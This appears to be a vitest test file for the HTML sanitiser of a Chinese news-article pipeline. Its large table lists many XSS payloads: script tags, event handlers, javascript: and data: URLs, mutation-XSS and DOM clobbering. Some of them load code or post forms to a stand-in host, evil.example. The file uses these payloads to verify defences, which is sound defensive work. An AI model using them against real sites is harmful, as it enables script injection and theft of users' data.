import fc from "fast-check";
import { expect, test } from "vitest";
import { droppedWithContent } from "../../src/normalise/allowList.ts";
import { isPlain, sanitise, unsafeMarkupIn } from "../../src/normalise/sanitise.ts";
import { faultsIn } from "../support/allowListed.ts";
import { articleOf } from "../support/articles.ts";

const attacks: readonly (readonly [string, readonly string[]])[] = [
  [
    "scripts",
    [
      "<script>alert(1)</script>",
      "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
      "<script/src=data:,alert(1)>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<<script>alert(1);//<</script>",
      "<script>alert(1)",
      "<script\n>alert(1)</script\n>",
      "<script\t/x>alert(1)</script >",
      "</script><script>alert(1)</script>",
      "<script type=module>import('https://evil.example/x.js')</script>",
      "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
      "<\u0000script>alert(1)</script>",
      "<script\u0000>alert(1)</script>",
      "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
      "<script>{{constructor.constructor('alert(1)')()}}</script>",
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
  ],
  [
    "styles",
    [
      "<style>body{background:url(javascript:alert(1))}</style>",
      "<style>@import 'https://evil.example/x.css';</style>",
      '<style><img src="</style><img src=x onerror=alert(1)>">',
      "<style>p{display:none}",
      '<p style="background:url(https://evil.example/x.png)">字</p>',
      '<p style="width:expression(alert(1))">字</p>',
      '<p style="position:fixed;inset:0;z-index:9999">字</p>',
      '<p style="behavior:url(#default#time2)">字</p>',
      '<link rel=stylesheet href="https://evil.example/x.css">',
      '<link rel="prefetch" href="//evil.example/">',
      '<p class="site-header masthead">字</p>',
      '<font style="-moz-binding:url(//evil.example/x.xml#x)">字</font>',
    ],
  ],
  [
    "handlers",
    [
      '<p onclick="alert(1)">字</p>',
      "<p OnMouseOver=alert(1)>字</p>",
      "<img src=x onerror=alert(1)>",
      "<img src=x:x onerror=alert(1)//",
      "<img/src/onerror=alert(1)>",
      "<img src='x'onerror='alert(1)'>",
      '<img src="/a.png" alt="x" onload="alert(1)" onerror=alert(1)>',
      '<img src="`"><img src=x onerror=alert(1)>',
      "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
      "<img src=x one<!-- -->rror=alert(1)>",
      "<img\u000conerror=alert(1)\u000csrc=x>",
      "<a href=/x.html onfocus=alert(1) autofocus tabindex=0>字</a>",
      "<p onpointerrawupdate=alert(1) ontoggle=alert(1)>字</p>",
      "<marquee onstart=alert(1)>字</marquee>",
      "<body onload=alert(1)><p>字</p></body>",
      "<html onmouseover=alert(1)><p>字</p></html>",
      "<details open ontoggle=alert(1)><summary>字</summary>字</details>",
      "<xss onbeforetoggle=alert(1) popover id=x>字</xss>",
      "<table background=x onwheel=alert(1)><tr><td onclick=alert(1)>字</td></tr></table>",
      '<strong on="x" on-click="x" :click="x" @click="x" v-on:click="x" x-on:click="x">字</strong>',
      "<p/onclick=alert(1)/x=y>字</p>",
      '<p "onclick=alert(1)">字</p>',
      "<p a='>' onclick=alert(1)>字</p>",
    ],
  ],
  [
    "frames, forms and objects",
    [
      '<iframe src="https://evil.example/"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      "<iframe src=javascript:alert(1)>",
      "<frameset onload=alert(1)><frame src=//evil.example/></frameset>",
      '<object data="data:text/html,<script>alert(1)</script>"></object>',
      '<object classid="clsid:1"><param name=url value=javascript:alert(1)></object>',
      '<embed src="https://evil.example/x.swf" allowscriptaccess=always>',
      '<applet code="x" archive="//evil.example/x.jar"></applet>',
      '<form action="https://evil.example/"><input name=password><button>交</button></form>',
      "<form id=f></form><button form=f formaction=javascript:alert(1)>字</button>",
      "<input type=image src=x onerror=alert(1)>",
      "<isindex type=image src=1 onerror=alert(1)>",
      "<textarea autofocus onfocus=alert(1)></textarea>",
      "<select><option><script>alert(1)</script></option></select>",
      "<keygen autofocus onfocus=alert(1)>",
      "<video><source onerror=alert(1)></video>",
      '<video src="//evil.example/x.mp4" poster="//evil.example/x.png" autoplay></video>',
      "<audio src=x onerror=alert(1)></audio>",
      "<portal src=https://evil.example/></portal>",
      "<fencedframe src=https://evil.example/></fencedframe>",
      '<picture><source srcset="//evil.example/x.png"><img src=/a.png alt=图></picture>',
      '<img src="/a.png" srcset="//evil.example/x.png 2x" alt="图">',
      '<map name=m><area href=javascript:alert(1) shape=default></map><img usemap="#m" src="/a.png">',
      "<dialog open><form method=dialog><p>字</p></form></dialog>",
      "<canvas id=c></canvas><slot name=x></slot>",
    ],
  ],
  [
    "base, meta and title",
    [
      '<base href="https://evil.example/">',
      "<base target=_parent>",
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<meta http-equiv="Content-Security-Policy" content="script-src *">',
      '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      "<title>换题</title>",
      "<head><meta name=referrer content=unsafe-url></head>",
      "<!DOCTYPE html><html manifest=x><body><p>字</p></body></html>",
      "<?xml-stylesheet href='javascript:alert(1)'?>",
      '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    ],
  ],
  [
    "SVG and MathML",
    [
      "<svg onload=alert(1)></svg>",
      "<svg><script>alert(1)</script></svg>",
      "<svg><script href=data:,alert(1) /></svg>",
      '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>字</text></a></svg>',
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
      "<svg><set attributeName=href to=javascript:alert(1)><a id=x>字</a></svg>",
      "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
      '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
      '<svg><image href="https://evil.example/x.png"></image></svg>',
      "<svg><style>*{x:url(https://evil.example/)}</style></svg>",
      "<svg/onload=alert(1)//",
      '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">字</maction></math>',
      '<math href="javascript:alert(1)">字</math>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
      "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    ],
  ],
  [
    "addresses",
    [
      '<a href="javascript:alert(1)">字</a>',
      '<a href="JaVaScRiPt:alert(1)">字</a>',
      '<a href=" &#14; javascript:alert(1)">字</a>',
      '<a href="jav&#x09;ascript:alert(1)">字</a>',
      '<a href="jav&NewLine;ascript&colon;alert(1)">字</a>',
      '<a href="java\nscript:alert(1)">字</a>',
      '<a href="java\u0000script:alert(1)">字</a>',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">字</a>',
      '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">字</a>',
      '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">字</a>',
      '<a href="javascript&colon;alert&lpar;1&rpar;">字</a>',
      '<a href="javascript://%0aalert(1)">字</a>',
      '<a href="\u0001javascript:alert(1)">字</a>',
      '<a href="\u3000javascript:alert(1)">字</a>',
      '<a href="feed:javascript:alert(1)">字</a>',
      '<a href="view-source:javascript:alert(1)">字</a>',
      '<a href="vbscript:msgbox(1)">字</a>',
      '<a href="VBS&#99;RIPT:x">字</a>',
      '<a href="livescript:x">字</a><a href="mocha:x">字</a>',
      '<a href="data:text/html,<script>alert(1)</script>">字</a>',
      '<a href="DATA:text/html;base64,PHNjcmlwdD4=">字</a>',
      '<a href="blob:https://evil.example/1">字</a><a href="filesystem:https://a.example/x">字</a>',
      '<a href="file:///etc/passwd">字</a><a href="intent:#Intent;end">字</a>',
      '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
      '<img src="javascript:alert(1)"><img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
      '<img src="https://evil.example/pixel.gif">',
      '<img src="//finews.zning.me//evil.example/pixel.gif">',
      '<img src="/%2Fevil.example/pixel.gif">',
      '<a href="/%2Fevil.example/">字</a>',
      '<span href="javascript:alert(1)">字</span>',
      '<span href="vbscript:x" data-code=\'1,"><img src=x onerror=alert(1)>\'>字</span>',
      '<a href="/x.html" target="_blank" rel="opener" ping="//evil.example/">字</a>',
      '<a href="https://a.example/&quot; onclick=&quot;alert(1)">字</a>',
      "<a href='https://a.example/\" onclick=\"alert(1)'>字</a>",
      '<a href="mailto:a@b.example?subject=&quot;><script>alert(1)</script>">字</a>',
      '<blockquote cite="javascript:alert(1)">字</blockquote><q cite="javascript:x">字</q>',
      '<ins cite="javascript:x" datetime="x">字</ins><del cite="javascript:x">字</del>',
      "[字](javascript:alert(1))",
      "[字](  JAVASCRIPT:alert(1))",
      "[字](data:text/html;base64,PHNjcmlwdD4=)",
      "![图](javascript:alert(1))",
      '[字](https://a.example/"onmouseover="alert(1))',
      "<javascript:alert(1)>",
      "[字][x]\n\n[x]: javascript:alert(1) 'x'",
    ],
  ],
  [
    "broken and mutating mark-up",
    [
      '<p title="</p><img src=x onerror=alert(1)>">字',
      "<p><a href='/x.html' title='<img src=x onerror=alert(1)>'>字</a>",
      '<img src="x` `<script>alert(1)</script>"` `>',
      '<a href="/x.html"><a href="/y.html"><a href="javascript:alert(1)">字',
      "<!--><img src=x onerror=alert(1)>-->",
      "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
      "<!-- --!><img src=x onerror=alert(1)> -->",
      "<!---><img src=x onerror=alert(1)>",
      "<![CDATA[<img src=x onerror=alert(1)>]]>",
      "<!ENTITY x '<script>alert(1)</script>'>&x;",
      "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
      "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
      "<xmp><img src=x onerror=alert(1)></xmp>",
      "<plaintext><img src=x onerror=alert(1)>",
      "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
      "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
      "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
      "<template shadowrootmode=open><style>:host{}</style></template>",
      "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
      '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
      "<table><caption><img src=x onerror=alert(1)></table>",
      "<select><style></select><img src=x onerror=alert(1)></style>",
      "<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>",
      "<textarea>&lt;/textarea&gt;<img src=x onerror=alert(1)></textarea>",
      "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
      '<b><p title="</b><img src=x onerror=alert(1)>">字</b>',
      "<p>字<b>字<i>字</b>字</i>字",
      "</p></div></body></html><script>alert(1)</script>",
      "<p\u2028onclick=alert(1)>字</p>",
      "<p>字</p\u0000><script>alert(1)</script>",
      `${"<b>".repeat(100)}<script>alert(1)</script>`,
      '<a href="/x.html"<img src=x onerror=alert(1)>字</a>',
      "<img src=x onerror=alert(1)",
      "<a href='/x.html",
      '<p style="display:none"><script>alert(1)</script>',
      "< script>alert(1)</ script>",
      "<p<script>alert(1)</script>",
      "`<img src=x onerror=alert(1)>`",
      "```\n</code></pre><script>alert(1)</script>\n```",
      "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>",
    ],
  ],
  [
    "names the page's own scripts could meet",
    [
      '<p id="main">字</p><p id="search">字</p>',
      '<a id="document" name="location" href="/x.html">字</a>',
      '<img name="cookie" id="getElementById" src="/a.png" alt="图">',
      "<form name=body><input name=children></form>",
      "<a id=defaultView><a id=defaultView name=x href=/y.html>字</a>",
      '<p id="p-00000000">字</p><h2 id="h-00000000">字</h2>',
      '<p>字<span id="p-12345678">字</span></p>',
      '<p data-theme="x" data-pagefind-body aria-hidden="true" role="alert" contenteditable>字</p>',
      '<p slot="x" part="y" is="z-z" itemprop="name" itemscope accesskey="s" draggable=true>字</p>',
      '<p lang="zh" dir="rtl" translate="no" inert nonce="abc">字</p>',
      '<p __proto__="x" constructor="y" hasownproperty="z">字</p>',
      "<p xmlns='http://www.w3.org/2000/svg' xml:base='https://evil.example/'>字</p>",
      "<my-element>字</my-element><x:y z:w=1>字</x:y>",
    ],
  ],
];

test.each(attacks.flatMap(([kind, vectors]) => vectors.map((vector) => [kind, vector] as const)))(
  "nothing of %s gets through: %j",
  (_, vector) => {
    for (const path of ["2022-03-11-a.md", "2022-03-11-a.html"]) {
      const article = articleOf(`<p>正文在前。</p>\n\n${vector}`, { path });
      expect(faultsIn(article.body)).toEqual([]);
      expect(article.text).toContain("正文在前。");
      expect(article.text).not.toMatch(/\0|\u202E/);
    }
  },
);

test.each([
  ["<p>甲<strong>乙</strong></p><hr><br/><ul><li>丙</li></ul>", true],
  ['<p class="em_media">（文章来源：南通日报）</p>', true],
  ["1 &lt; 2 &amp; 3 > 2", true],
  ["", true],
  ["<P>甲</P>", false],
  ["<p >甲</p>", false],
  ['<p id="x">甲</p>', false],
  ["<p>甲<", false],
  ["<<p>script>", false],
  ["<p<br>>", false],
  ["<b>甲</b>", false],
  ["<!-- x -->", false],
  ["</br>", false],
  ['<p class="em_media" >', false],
])("%s is plain: %s", (html, plain) => {
  expect(isPlain(html)).toBe(plain);
});

test.each([
  ["<div><b>甲</b><font color=red>乙</font></div>", "<p><strong>甲</strong><span>乙</span></p>"],
  ["<p class='em_media big'>甲</p>", '<p class="em_media">甲</p>'],
  ["<p hidden>藏</p><p>甲</p>", "<p>甲</p>"],
  ["<marquee>甲</marquee><unknown>乙</unknown>", "甲乙"],
  ["<label>甲<input></label>", "甲"],
])("%s is sanitised to %s", (html, safe) => {
  expect(sanitise(html).html).toBe(safe);
});

test.each([
  ["<p hidden>藏</p><blockquote>引</blockquote><p>甲</p>", "<blockquote>引</blockquote><p>甲</p>"],
  ["<p><span hidden>藏</span><strong>甲</strong>乙</p>", "<p><strong>甲</strong>乙</p>"],
  ["<div style='display:none'><p>藏</p></div><ul><li>甲</li></ul>乙", "<ul><li>甲</li></ul>乙"],
  ["<img hidden><em>甲</em>乙", "<em>甲</em>乙"],
])("what follows the hidden part of %s is whole", (html, safe) => {
  expect(sanitise(html).html).toBe(safe);
});

test("the allow-list drops what scripts, frames, forms and other languages hold", () => {
  expect(droppedWithContent).toEqual(expect.arrayContaining(["script", "style", "iframe", "object", "svg", "math"]));
});

const isEmptyTag = (tag: string) => tag === "embed";

test.each(droppedWithContent.filter((tag) => !isEmptyTag(tag)).map((tag) => [tag]))(
  "what <%s> held goes, and the editor is told",
  (tag) => {
    const article = articleOf(`<p>正文。</p><${tag}>其中的字</${tag}>`, { path: "2022-03-11-a.html" });
    expect(article.text).toBe("正文。");
    expect(article.warnings.map(({ rule }) => rule)).toContain("unsafe-markup");
  },
);

test.each([
  ["<script>1</script>", ["<script>"]],
  ["<SCRIPT>1</SCRIPT><script>", ["<script>"]],
  ["<p onclick=x>", ["onclick"]],
  ["<img/src='x'OnError=x>", ["onerror"]],
  ['<a href="JavaScript:x">', ["javascript:"]],
  ["<a href=data:x><iframe>", ["<iframe>", "data:"]],
  ["<p>onclick= 与 javascript: 只是文字</p>", []],
  ["<p class='once'>one = 1</p>", []],
  ["<scripture>", []],
])("the unsafe mark-up in %s is named %j", (html, names) => {
  expect(unsafeMarkupIn(html)).toEqual(names);
});

test("the note on unsafe mark-up says where it stands", () => {
  const [note] = articleOf("<p>正文。</p>\n\n<p>字<script>1</script></p>").warnings;
  expect(note).toMatchObject({ rule: "unsafe-markup", line: 7, column: 5, values: { markup: "<script>" } });
});

const plainPiece = fc.oneof(
  fc.constantFrom(
    ...["<p>", "</p>", "<strong>", "</strong>", "<em>", "</em>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>"],
    ...["<h1>", "</h1>", "<h3>", "</h3>", "<blockquote>", "</blockquote>", "<br>", "<br />", "<hr/>", "<hr>"],
    ...['<p class="em_media">', "&lt;", "&amp;amp;", "&#60;script&#62;", "&nbsp", "&#0;", "&copy", ">", '"', "&"],
    ...["正文，", "一句话。", "（文章来源：南通日报）", "文：陈可", "\n", "  ", "　", "<p>", "</p>"],
  ),
  fc.string({ maxLength: 6 }).map((text) => text.replaceAll("<", "")),
);
const plainBody = fc.array(plainPiece, { maxLength: 30 }).map((pieces) => pieces.join(""));

test("a plain body comes out the same whether or not it passes through the sanitiser", () => {
  fc.assert(
    fc.property(plainBody, (body) => {
      expect(isPlain(body)).toBe(true);
      const path = "2022-03-11-a.html";
      const plain = `<p>正文在前。</p>${body.trimEnd()}`;
      expect(articleOf(sanitise(plain).html, { path }).body).toBe(articleOf(plain, { path }).body);
    }),
    { numRuns: 1500 },
  );
});

test("words in CDATA stay", () => {
  expect(sanitise("<p>一</p><![CDATA[ 二<b>三</b> ]]><p>四</p>").html).toBe(
    "<p>一</p> 二<strong>三</strong> <p>四</p>",
  );
});

test("text that was hidden is told of", () => {
  const article = articleOf('<p>一。</p><div style="display:none"><p>二</p></div><p style="display:none"><br></p>');
  expect(article.text).toBe("一。");
  expect(article.warnings).toMatchObject([{ rule: "text-hidden", values: { words: "二" } }]);
});
